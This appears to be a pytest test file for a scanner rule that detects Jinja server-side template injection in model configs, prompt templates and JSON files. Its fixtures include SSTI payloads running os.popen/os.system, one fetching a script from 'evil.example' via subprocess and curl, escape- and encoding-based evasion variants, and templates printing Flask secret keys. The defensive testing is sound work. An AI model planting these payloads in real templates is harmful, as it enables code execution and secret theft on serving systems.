"""Jinja templates outside the keys model loaders render (LW-MODEL-040): a YAML config's ``chat_template``, a
``prompt_template`` or any other string with Jinja markup in a JSON or YAML config, ``.jinja2``, ``.template`` and
``.tmpl`` files. Serving and training applications render these; modelaudit's fixtures ``yaml/malicious_config.yaml``
and ``malicious_subprocess.template`` (promptfoo/modelaudit tests/assets/samples/jinja2) were clean before.

Outside the loaders' own keys a string that does not parse as Jinja is no template: it says nothing (Helm and Go
templates, GitHub expressions), so configs of other tools stay clean.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from loopwarden.checks.models.scanner import scan_paths
from loopwarden.domain import TargetResult, Verdict

SSTI = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
SSTI_ITEM = "{{ config['__class__'].__init__.__globals__['os'].system('id') }}"
IMPORT = "{{ __import__('subprocess').call(['curl', 'http://evil.example/p.sh']) }}"


def _scan(tmp_path: Path, name: str, text: str) -> TargetResult:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return scan_paths([str(path)], jobs=1).targets[0]


def _caught(res: TargetResult) -> None:
    assert any(f.rule_id == "LW-MODEL-040" for f in res.findings), res


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("serving.yaml", f'chat_template: "{SSTI}"\nmodel_name: m\n'),
        ("serving.yaml", f'deploy_script: "{IMPORT}"\n'),
        ("config.yml", f"prompts:\n  - name: a\n    template: |\n      {SSTI_ITEM}\n"),
        ("MLmodel", f'flavors:\n  python_function:\n    prompt: "{SSTI}"\n'),
        ("generation_config.json", json.dumps({"prompt_template": SSTI})),
        ("config.json", json.dumps({"serving": {"templates": [{"text": SSTI_ITEM}]}})),
        # Jinja markup spelled with JSON escapes: the parsed string is what a renderer sees
        (
            "config.json",
            json.dumps({"prompt_template": SSTI}).replace("{", "\\u007b").replace("\\u007b", "{", 1),
        ),
        ("prompt.template", f"System: be helpful\n{SSTI}\n"),
        ("prompt.tmpl", IMPORT),
        ("chat.jinja2", SSTI),
    ],
)
def test_templates_in_configs_and_template_files_are_judged(tmp_path: Path, name: str, text: str) -> None:
    _caught(_scan(tmp_path, name, text))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("values.yaml", "image: '{{ .Values.image.repository }}:{{ .Chart.AppVersion }}'\n"),  # Helm / Go
        ("workflow.yml", "run: echo ${{ secrets.TOKEN }} ${{ github.sha }}\n"),
        ("playbook.yaml", "- debug:\n    msg: '{{ item.name }} {{ item.value | default(1) }}'\n"),
        (
            "config.json",
            json.dumps({"prompt_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}),
        ),
        ("config.json", json.dumps({"note": "use {{ and }} for placeholders", "x": "{% broken"})),
        ("prompt.template", "Question: {question}\nAnswer: {{ answer | trim }}\n"),
        ("readme.template", "no markup at all"),
        # a tokenizer vocabulary holding Jinja-like tokens is not walked
        (
            "tokenizer.json",
            json.dumps({"model": {"vocab": {SSTI: 1, "{{": 2}}, "added_tokens": [{"content": SSTI}]}),
        ),
    ],
)
def test_ordinary_configs_stay_clean(tmp_path: Path, name: str, text: str) -> None:
    res = _scan(tmp_path, name, text)
    assert res.verdict is Verdict.CLEAN, res


# MkDocs (mkdocs-macros) renders strings of mkdocs.yml with its site configuration as ``config``: printing or
# testing one of its settings there is no use of Flask's config object
MKDOCS_SETTINGS = [
    "{{ config.site_name }}",
    "{{ config.extra.version }}",
    "Copyright {{ config.copyright }} - {{ config['site_author'] ~ ' and others' }}",
    "{% if config.extra.analytics %}{{ config.extra.analytics.provider }}{% endif %}",
    "{{ 'dark' if config.theme.palette.scheme == 'slate' else 'light' }}",
    "{{ not config.extra.draft }}",
]


@pytest.mark.parametrize("value", MKDOCS_SETTINGS)
@pytest.mark.parametrize("name", ["mkdocs.yml", "config.json"])
def test_a_printed_setting_of_config_in_a_config_is_clean(tmp_path: Path, name: str, value: str) -> None:
    text = f"site_name: docs\nextra:\n  footer: {json.dumps(value)}\n" if name.endswith(".yml") else None
    res = _scan(tmp_path, name, text or json.dumps({"site_name": "docs", "footer": value}))
    assert res.verdict is Verdict.CLEAN, res


@pytest.mark.parametrize(
    "value",
    [
        "{{ config }}",  # the whole object
        "{{ config.from_pyfile('settings.cfg') }}",  # Flask's Config executes the file
        "{{ config.from_object('os') }}",
        "{{ (config.from_envvar)('X') }}",
        "{% set load = config.from_pyfile %}{{ load('s.cfg') }}",  # handed on, then called
        "{{ dict(f=config.from_pyfile).f('s.cfg') }}",
        "{{ config|list }}",  # filtered
        "{{ config.extra|attr('x') }}",
        "{{ config.from_pyfile is defined }}",  # tested rather than read
        "{{ config.items() }}",
        "{{ config['__class__'] }}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{{ request.args.cmd }}",  # only config is MkDocs data
        "{{ session.user }}",
    ],
)
def test_config_used_beyond_reading_a_setting_stays_reported(tmp_path: Path, value: str) -> None:
    _caught(_scan(tmp_path, "mkdocs.yml", f"extra:\n  footer: {json.dumps(value)}\n"))


@pytest.mark.parametrize("value", MKDOCS_SETTINGS[:2])
def test_config_in_a_chat_template_stays_reported(tmp_path: Path, value: str) -> None:
    # a chat template has no MkDocs renderer: any use of config there is judged as before
    res = _scan(tmp_path, "tokenizer_config.json", json.dumps({"chat_template": value}))
    assert any("uses the global 'config'" in f.message for f in res.findings), res


def _escaped(text: str, *escapes: tuple[str, str]) -> str:
    """``text`` as a JSON document's ``prompt_template``, each character spelled as the JSON escape paired with it."""
    value = json.dumps(text)
    for char, escape in escapes:
        value = value.replace(char, escape)
    return '{"prompt_template": ' + value + "}"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        # '%' escaped: {\u0025 decodes to {% (the raw text has neither {{ nor {% nor \u007b)
        ("config.json", _escaped("{% if cycler.__init__.__globals__ %}x{% endif %}", ("%", "\\u0025"))),
        ("config.json", _escaped("{% print(config.__class__) %}", ("%", "\\u0025"))),
        # both characters escaped, the hex digits in either case
        ("config.json", _escaped("{% set x = cycler.__init__ %}", ("{", "\\u007B"), ("%", "\\u0025"))),
        ("config.json", _escaped(SSTI, ("{", "\\u007b"))),
        # UTF-16 and UTF-32 JSON, which json.loads decodes by its BOM or NUL bytes
        ("config.json", json.dumps({"prompt_template": SSTI}).encode("utf-16")),
        ("config.json", json.dumps({"prompt_template": SSTI}).encode("utf-32-le")),
        ("generation_config.json", json.dumps({"serving": {"t": SSTI_ITEM}}).encode("utf-16-be")),
        # a template as a key rather than a value
        ("config.json", json.dumps({"templates": {SSTI: "default"}})),
        ("config.json", json.dumps({"prompts": [{IMPORT: 1}]})),
        # 'model' and 'added_tokens' are skipped only for a tokenizer's vocabulary, merges and token contents
        ("config.json", json.dumps({"model": {"prompt_template": SSTI}})),
        ("config.json", json.dumps({"model": {"name": "m", "serving": {"templates": [SSTI_ITEM]}}})),
        ("tokenizer.json", json.dumps({"model": {"vocab": {}, "type": "BPE", "unk_token": SSTI}})),
        ("config.json", json.dumps({"added_tokens": {"prompt_template": SSTI}})),
        ("tokenizer.json", json.dumps({"added_tokens": [{"id": 1, "content": "<s>", "template": SSTI}]})),
    ],
)
def test_json_markup_however_spelled_or_placed_is_judged(
    tmp_path: Path, name: str, data: str | bytes
) -> None:
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    _caught(scan_paths([str(path)], jobs=1).targets[0])


@pytest.mark.parametrize(
    "data",
    [
        # benign counterparts: the same spellings and places with ordinary templates
        _escaped("{% for m in messages %}{{ m.content }}{% endfor %}", ("%", "\\u0025")),
        json.dumps({"prompt_template": "{{ question }}"}).encode("utf-16"),
        json.dumps({"labels": {"{{ label }}": 0, "{% raw %}": 1}}),
        json.dumps({"model": {"name": "m", "prompt": "Q: {{ question }}"}, "added_tokens": {"n": 2}}),
        json.dumps({"title": "caf\u00e9 100%", "s": "\\u00e9"}, ensure_ascii=True),
    ],
)
def test_benign_json_markup_in_those_spellings_and_places_is_clean(tmp_path: Path, data: str | bytes) -> None:
    path = tmp_path / "config.json"
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    res = scan_paths([str(path)], jobs=1).targets[0]
    assert res.verdict is Verdict.CLEAN, res


def test_a_template_behind_a_padding_of_nodes_is_unverified(tmp_path: Path) -> None:
    # the walk for templates is bounded: a document with more nodes than it visits is not clean
    pad = ",".join(["[0]"] * 1_000_100)
    res = _scan(
        tmp_path, "config.json", '{"prompt_template": ' + json.dumps(SSTI) + ', "pad": [' + pad + "]}"
    )
    assert res.verdict is not Verdict.CLEAN, res


# a chain of sets the analysis follows one step per round: its values do not settle within the round bound,
# yet Jinja renders it
UNSETTLED = "".join(f"{{% set a{i} = a{i + 1} %}}" for i in range(40)) + "{% set a40 = 'x' %}"


@pytest.mark.parametrize(
    "template",
    [
        UNSETTLED + SSTI,
        UNSETTLED + "{{ a0 }}",
        "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",  # nested past the parser's stack
    ],
)
@pytest.mark.parametrize("name", ["serving.yaml", "config.json", "prompt.template"])
def test_an_embedded_template_that_parses_but_cannot_be_analysed_is_unverified(
    tmp_path: Path, name: str, template: str
) -> None:
    if name.endswith(".yaml"):
        text = f"t: {json.dumps(template)}\n"
    elif name.endswith(".json"):
        text = json.dumps({"prompt_template": template})
    else:
        text = template
    res = _scan(tmp_path, name, text)
    assert res.verdict is not Verdict.CLEAN, res


@pytest.mark.parametrize(
    "value",
    [
        "{{ config.SECRET_KEY }}",  # Flask's settings are spelled in capitals: printing one discloses it
        "{{ config['SQLALCHEMY_DATABASE_URI'] }}",
        "{% if config.DEBUG %}debug{% endif %}",
        "Key: {{ config.AWS_SECRET_ACCESS_KEY ~ '' }}",
    ],
)
def test_a_flask_setting_printed_from_config_is_reported(tmp_path: Path, value: str) -> None:
    _caught(_scan(tmp_path, "mkdocs.yml", f"extra:\n  footer: {json.dumps(value)}\n"))


def test_mkdocs_settings_with_capitals_below_the_first_name_stay_clean(tmp_path: Path) -> None:
    res = _scan(
        tmp_path, "mkdocs.yml", 'extra:\n  footer: "{{ config.extra.GA_ID }} {{ config.site_url }}"\n'
    )
    assert res.verdict is Verdict.CLEAN, res


@pytest.mark.parametrize(
    "data",
    [
        json.dumps([{"name": "qa", "template": SSTI}]),  # a .json list of prompts
        json.dumps([[{"t": SSTI_ITEM}]]),
        json.dumps([{IMPORT: "key"}]),
        json.dumps(["x", {"prompt": SSTI}]).encode("utf-16"),
        "  \n" + json.dumps([SSTI]),
    ],
)
def test_a_json_array_is_searched_for_templates(tmp_path: Path, data: str | bytes) -> None:
    path = tmp_path / "prompts.json"
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    _caught(scan_paths([str(path)], jobs=1).targets[0])


@pytest.mark.parametrize(
    "data",
    [
        json.dumps([{"name": "qa", "template": "Q: {{ question }}\nA:"}]),
        json.dumps([[1, 2], [3, 4]]),
        json.dumps([{"text": "use {{ and }} in Jinja", "label": 1}]),
    ],
)
def test_ordinary_json_arrays_stay_clean(tmp_path: Path, data: str) -> None:
    res = _scan(tmp_path, "data.json", data)
    assert res.verdict is Verdict.CLEAN, res


def test_a_json_array_past_the_text_bound_is_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # no loader reads an array as a config: past the bound it is data, while an object there stays unverified
    from loopwarden.checks.models import dispatch

    monkeypatch.setattr(dispatch, "_MAX_TEXT_PARSE", 1000)
    array = _scan(tmp_path, "data.json", json.dumps([{"text": "x" * 100}] * 20))
    assert array.verdict is Verdict.CLEAN, array
    obj = _scan(tmp_path, "config.json", json.dumps({"texts": [{"text": "x" * 100}] * 20}))
    assert obj.verdict is Verdict.UNVERIFIED, obj
